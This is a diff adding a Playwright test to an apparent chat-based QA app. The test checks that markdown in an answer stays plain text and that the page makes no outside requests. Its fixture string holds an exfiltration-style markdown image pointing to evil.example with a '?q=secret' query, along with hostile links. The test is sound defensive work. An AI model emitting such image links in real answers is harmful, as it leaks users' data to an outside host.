@@ -346,3 +346,47 @@ def test_login_is_required_and_the_password_never_logged(monkeypatch, caplog, ca
         app.close()
     out, err = capfd.readouterr()
     assert "s3cret-pw" not in caplog.text + out + err
+
+
+HOSTILE_REPLY = (
+    "MOVA 使用 32B 参数[1]。![logo](http://evil.example/pixel.png?q=secret) "
+    "[download](http://evil.example/weights) http://evil.example/bare www.evil.example $$x^2$$ **bold**"
+)
+
+
+def test_markdown_and_links_in_an_answer_stay_text_and_the_page_fetches_nothing_outside(indexed):
+    from playwright.sync_api import sync_playwright
+    from test_browser import CHROMIUM_ARGS, chromium
+
+    config, assistant = indexed
+    assistant.answer = dataclasses.replace(mova_answer(), text=HOSTILE_REPLY, unsupported=())
+    app = build_app(assistant, config)
+    _, url, _ = app.launch(prevent_thread_lock=True, quiet=True, server_name="127.0.0.1", ssr_mode=False)
+    outside: list[str] = []
+    try:
+        with sync_playwright() as p:
+            browser = p.chromium.launch(executable_path=chromium(), headless=True, args=CHROMIUM_ARGS)
+            page = browser.new_page()
+            page.route(  # every request leaving 127.0.0.1 is recorded and refused
+                lambda u: not u.startswith(url.rstrip("/")),
+                lambda route: (outside.append(route.request.url), route.abort()),
+            )
+            page.goto(url)
+            page.fill("#question textarea", "MOVA ![x](http://evil.example/q.png) 用了多大的模型？")
+            page.click("#ask")
+            bot = page.locator('#chat [data-testid="bot"]').last
+            page.wait_for_function(  # the checked answer has replaced the streamed one (no cursor)
+                """() => { const bots = document.querySelectorAll('#chat [data-testid="bot"]');
+                    return bots.length > 0 && bots[bots.length - 1].innerText.includes('MOVA')
+                        && !bots[bots.length - 1].innerText.includes('▍'); }"""
+            )
+            shown = bot.inner_text()
+            links = [a.get_attribute("href") for a in page.locator("#chat a").all()]
+            images = page.locator("#chat img").count()
+            browser.close()
+    finally:
+        app.close()
+    assert "![logo](http://evil.example/pixel.png?q=secret)" in shown and "**bold**" in shown
+    assert "$$x^2$$" in shown
+    assert images == 0 and all(href.startswith("#src-") for href in links)  # only the citation markers link
+    assert [u for u in outside if "evil.example" in u] == []
